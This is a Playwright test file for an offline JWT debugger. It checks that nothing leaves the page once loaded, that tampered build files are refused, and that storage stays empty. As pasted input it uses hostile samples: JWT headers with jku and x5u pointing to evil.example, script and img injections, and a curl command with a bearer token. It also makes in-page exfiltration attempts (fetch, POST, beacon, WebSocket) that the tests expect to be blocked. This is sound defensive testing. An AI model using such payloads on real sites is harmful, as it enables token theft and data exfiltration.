// After start-up nothing leaves the page: the browser refuses it, and the badge says what is true.
import { createServer } from 'node:http';
import { LIMITS, measure } from '../../scripts/check-size.mjs';
import { test, expect, compact } from './app.mjs';

// With the worker that keeps the page, as everybody has it.
test.use({ serviceWorkers: 'allow' });

const HOSTILE = compact(
  '{"alg":"RS256","jku":"https://evil.example/keys","x5u":"http://127.0.0.1:9/cert","kid":"//evil.example/k"}',
  '{"iss":"https://evil.example","picture":"https://evil.example/p.png","a":"<img src=//evil.example/x>"}',
);
const INPUTS = [
  HOSTILE,
  `curl https://evil.example/ -H 'Authorization: Bearer ${HOSTILE}'`,
  '<script src="https://evil.example/x.js"></script><link rel=stylesheet href=//evil.example/x.css>',
  'https://evil.example/#access_token=abc',
  '',
];

test('loading takes no more requests than the budget, and exactly the files that are counted', async ({ page, site }) => {
  const requests = [];
  page.on('request', (request) => requests.push(request.url().replace(site, '') || 'index.html'));
  await page.goto(site);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.waitForTimeout(500);
  expect(requests.length).toBeLessThanOrEqual(LIMITS.requests);
  // Every copy asks for settings, and most have none.
  expect(requests.toSorted()).toEqual([...measure().map(({ name }) => name), 'settings.json'].toSorted());
});

test('no request of any kind happens after data-ready, whatever is pasted', async ({ app, page }) => {
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('websocket', (socket) => requests.push(socket.url()));
  for (const text of INPUTS) {
    await app.read({ token: text, key: text });
    await app.page.getByRole('group', { name: 'Payload view' }).getByRole('button', { name: 'Claims' }).click();
    await app.page.getByRole('group', { name: 'Payload view' }).getByRole('button', { name: 'JSON' }).click();
  }
  for (const name of ['HS256', 'RS512', 'ES384']) await app.sample.selectOption(name);
  await app.theme.click();
  // The clock ticks each second, and the badge counts.
  await page.waitForTimeout(2500);
  expect(requests).toEqual([]);
  await expect(app.seal).toHaveAttribute('data-state', 'sealed');
  await expect(app.seal).toContainText('0 requests');
});

for (const file of ['*_bg.wasm', 'start-*.js', 'jwt-debugger-app-*.js']) {
  test(`a program that is not the one that was built does not start, and the page says so: ${file}`, async ({ page, site }) => {
    await page.route(`**/${file}`, async (route) => {
      const response = await route.fetch();
      const body = Buffer.concat([await response.body(), Buffer.from(file.endsWith('.js') ? '\n' : [0, 2, 1, 0x61])]);
      const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !/^content-(encoding|length)$/.test(name)));
      await route.fulfill({ status: 200, headers, body });
    });
    await page.goto(site);
    // Without its script the page waits a while before it gives up.
    if (file.startsWith('start')) {
      await expect(page.getByRole('alert')).toHaveCount(0);
      await page.evaluate(() => document.getAnimations().forEach((animation) => animation.finish()));
    }
    await expect(page.getByRole('alert')).toContainText(file.startsWith('start') ? 'It has not started' : 'Something went wrong');
    await expect(page.locator('body')).not.toHaveAttribute('data-ready', 'true');
    await expect(page.getByTestId('token-input')).toHaveCount(0);
  });
}

test('normal use violates no policy, and writes nothing to the console', async ({ page, site }) => {
  const console = [];
  page.on('console', (message) => console.push(message.text()));
  await page.addInitScript(() => {
    window.violations = [];
    addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));
  });
  await page.goto(site);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.getByTestId('token-input').fill(HOSTILE);
  await page.getByTestId('sample').selectOption('ES256');
  await page.getByRole('button', { name: /^Theme/ }).click();
  await page.getByTestId('seal').click();
  await page.keyboard.press('Escape');
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => window.violations)).toEqual([]);
  // Chromium says so on each preload of data with a hash (crbug.com/981419); boot.js checks the hash itself.
  expect(console.filter((line) => !line.includes('crbug.com/981419'))).toEqual([]);
});

test('the browser refuses whatever a script in the page tries to send or load', async ({ app, page, site }) => {
  // A server that answers anyone: what reaches it was not refused.
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(request.url);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok');
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  const elsewhere = `http://127.0.0.1:${server.address().port}/`;
  // Without the seal the same server can be reached: without that, the test could not fail.
  const open = await page.context().newPage();
  expect(await open.evaluate((url) => fetch(url).then((answer) => answer.text()), `${elsewhere}control`)).toBe('ok');
  await open.close();
  expect(reached).toEqual(['/control']);

  // A file has no server of its own.
  for (const base of [site, elsewhere].filter((base) => base.startsWith('http'))) {
    const outcomes = await page.evaluate(async (base) => {
      const loads = (element) =>
        new Promise((done) => {
          element.onload = () => done('loaded');
          element.onerror = () => done('refused');
          document.body.append(element);
          setTimeout(() => done('nothing'), 1500);
        });
      const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
      const attempt = (action) => Promise.resolve().then(action).catch(() => 'refused');
      return {
        fetch: await attempt(() => fetch(`${base}?fetch`).then(() => 'sent')),
        post: await attempt(() => fetch(`${base}?post`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(() => 'sent')),
        xhr: await attempt(
          () =>
            new Promise((done) => {
              const request = new XMLHttpRequest();
              request.onload = () => done('sent');
              request.onerror = () => done('refused');
              request.open('GET', `${base}?xhr`);
              request.send();
            }),
        ),
        image: await loads(make('img', { src: `${base}?image` })),
        script: await loads(make('script', { src: `${base}?script` })),
        style: await loads(make('link', { rel: 'stylesheet', href: `${base}?style` })),
        socket: await attempt(
          () =>
            new Promise((done) => {
              const socket = new WebSocket(`${base.replace('http', 'ws')}?socket`);
              socket.onopen = () => done('open');
              socket.onerror = () => done('refused');
            }),
        ),
        events: await attempt(
          () =>
            new Promise((done) => {
              const source = new EventSource(`${base}?events`);
              source.onopen = () => done('open');
              source.onerror = () => done('refused');
            }),
        ),
        worker: await attempt(
          () =>
            new Promise((done) => {
              const worker = new Worker(`${base}?worker`);
              worker.onerror = () => done('refused');
              setTimeout(() => done('started'), 1500);
            }),
        ),
      };
    }, base);
    // What it returns only says that it was queued: whether it arrives is counted below.
    await page.evaluate((base) => navigator.sendBeacon(`${base}?beacon`, 'secret'), base);
    expect(new Set(Object.values(outcomes)), JSON.stringify(outcomes)).toEqual(new Set(['refused']));
  }
  await page.waitForTimeout(500);
  expect(reached, 'nothing arrived').toEqual(['/control']);
  await new Promise((done) => (server.closeAllConnections(), server.close(done)));
  app.troubles.length = 0;
});

test('there is no cookie, and storage holds the theme at most', async ({ app, page }) => {
  const stored = () => page.evaluate(() => [document.cookie, { ...localStorage }, { ...sessionStorage }]);
  await app.read({ token: HOSTILE, key: 'secret' });
  expect(await stored()).toEqual(['', {}, {}]);
  await app.theme.click();
  const [cookie, local, session] = await stored();
  expect([cookie, Object.keys(local), session]).toEqual(['', ['theme'], {}]);
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(async () => (await indexedDB.databases()).length)).toBe(0);
  // The page itself is kept for when there is no network: its files, and nothing else.
  const files = await page.evaluate(async () => {
    const keys = await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys()));
    return keys.flat().map(({ url }) => url.replace(/.*\//, '') || 'index.html');
  });
  const own = measure().map(({ name }) => name);
  expect(files.filter((name) => !own.includes(name))).toEqual([]);
});

test('the address stays as it was', async ({ app, page, site }) => {
  await app.read({ token: HOSTILE, key: 'secret' });
  expect(page.url()).toBe(site);
  expect(await page.evaluate(() => history.length)).toBeLessThanOrEqual(2);
});
